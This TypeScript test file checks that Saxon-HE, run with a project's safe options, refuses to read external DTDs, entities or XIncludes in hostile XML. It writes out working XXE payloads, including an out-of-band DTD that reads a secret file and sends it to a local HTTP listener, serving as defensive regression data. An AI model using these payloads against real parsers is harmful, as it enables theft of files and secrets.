/**
 * Issue 14 point 1, second line of defence: documents reach Saxon only after the safe parser, but
 * Saxon-HE itself must not read what a document points to either (an external DTD made it send the
 * database key to a listener on 127.0.0.1). Runs Saxon with the options validation uses on hostile
 * documents directly, bypassing the gate on purpose.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { describeWithPrerequisites } from '../../../fixtures/testing/tier';
import { DEBIAN_SAXON_JAR, hasSaxonJava, SAXON_SAFE_OPTIONS } from './validation';

describeWithPrerequisites('conformance', () => (hasSaxonJava() ? null : 'Saxon-HE on Java (Debian: default-jre-headless libsaxonhe-java)'), 'Saxon-HE as validation runs it', () => {
  it('reads no DTD, entity or XInclude a document names, and contacts no server', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pupitre-saxon-'));
    const secret = join(dir, 'secret.txt');
    writeFileSync(secret, 'SECRET-SAXON\n');
    const requests: string[] = [];
    const server = createServer((req, res) => {
      requests.push(req.url ?? '');
      res.end('');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
    const port = (server.address() as AddressInfo).port;
    try {
      writeFileSync(
        join(dir, 'evil.dtd'),
        `<!ENTITY % file SYSTEM "file://${secret}">\n<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:${port}/?k=%file;'>">\n%eval;\n%exfil;\n`,
      );
      const stylesheet = join(dir, 'copy.xsl');
      writeFileSync(stylesheet, '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><out><xsl:value-of select="."/></out></xsl:template></xsl:stylesheet>');
      const documents = {
        externalDtd: `<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "file://${join(dir, 'evil.dtd')}">\n<a/>`,
        remoteDtd: `<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "http://127.0.0.1:${port}/evil.dtd">\n<a/>`,
        entity: `<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file://${secret}">]>\n<a>&x;</a>`,
        xinclude: `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://${secret}" parse="text"/></a>`,
      };
      for (const [name, xml] of Object.entries(documents)) {
        const source = join(dir, `${name}.xml`);
        writeFileSync(source, xml);
        const run = spawnSync('java', ['-cp', DEBIAN_SAXON_JAR, 'net.sf.saxon.Transform', ...SAXON_SAFE_OPTIONS, `-xsl:${stylesheet}`, `-s:${source}`], { encoding: 'utf8', timeout: 120_000 });
        expect(`${run.stdout}${run.stderr}`, name).not.toContain('SECRET-SAXON');
        if (name !== 'xinclude') expect(run.status, name).not.toBe(0);
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(requests).toEqual([]);
    } finally {
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  }, 300_000);
});
